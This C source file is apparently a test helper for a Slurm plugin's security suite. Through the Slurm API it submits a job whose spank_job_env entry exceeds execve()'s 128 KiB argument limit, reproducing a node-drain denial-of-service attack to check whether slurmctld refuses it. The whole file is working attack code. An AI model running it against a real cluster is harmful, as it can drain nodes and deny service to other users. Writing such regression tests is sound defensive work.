/*
 * submit_big_env.c - the node-drain attack of issue 21, as any user can do it
 * through Slurm's API: submit a batch job whose spank_job_env holds one entry
 * larger than execve() takes (MAX_ARG_STRLEN, 128 KiB). sbatch has no option
 * for spank_job_env; the API (libslurm, slurmrestd) does.
 *
 *   submit_big_env NODE OUTFILE [BYTES]
 *
 * Submits `echo ran > OUTFILE` on NODE with SPANK_TOPOGNN_BIG=<BYTES x 'a'>
 * (default 200 KiB). Prints "submitted JOBID", or "refused: MESSAGE" and
 * exits 2 when slurmctld refused the job. Exit 1 on other errors.
 * Built by tests/slurm/test_spank_attacks.sh against the Slurm under test.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <slurm/slurm.h>
#include <slurm/slurm_errno.h>

int main(int argc, char **argv)
{
	job_desc_msg_t job;
	submit_response_msg_t *resp = NULL;
	size_t bytes = argc > 3 ? strtoul(argv[3], NULL, 10) : 200 * 1024;
	const char *prefix = "SPANK_TOPOGNN_BIG=";
	char *big, *script, *spank_env[2], *env[2] = { "PATH=/usr/bin:/bin", NULL };
	int rc;

	if (argc < 3) {
		fprintf(stderr, "usage: %s NODE OUTFILE [BYTES]\n", argv[0]);
		return 1;
	}
	big = malloc(strlen(prefix) + bytes + 1);
	script = malloc(strlen(argv[2]) + 64);
	if (!big || !script)
		return 1;
	strcpy(big, prefix);
	memset(big + strlen(prefix), 'a', bytes);
	big[strlen(prefix) + bytes] = '\0';
	sprintf(script, "#!/bin/sh\necho ran > '%s'\n", argv[2]);
	spank_env[0] = big;
	spank_env[1] = NULL;

	slurm_init(NULL);
	slurm_init_job_desc_msg(&job);
	job.name = "topognn-big-env";
	job.script = script;
	job.req_nodes = argv[1];
	job.min_nodes = 1;
	job.num_tasks = 1;
	job.work_dir = "/tmp";
	job.std_out = "/dev/null";
	job.std_err = "/dev/null";
	job.user_id = getuid();
	job.group_id = getgid();
	job.environment = env;
	job.env_size = 1;
	job.spank_job_env = spank_env;
	job.spank_job_env_size = 1;

	rc = slurm_submit_batch_job(&job, &resp);
	if (rc != SLURM_SUCCESS) {
		printf("refused: %s\n", slurm_strerror(errno));
		slurm_fini();
		free(big);
		free(script);
		return 2;
	}
#if SLURM_VERSION_NUMBER >= SLURM_VERSION_NUM(25, 5, 0)
	printf("submitted %u\n", resp->step_id.job_id); /* a step id since 25.05 */
#else
	printf("submitted %u\n", resp->job_id);
#endif
	slurm_free_submit_response_response_msg(resp);
	slurm_fini();
	free(big);
	free(script);
	return 0;
}
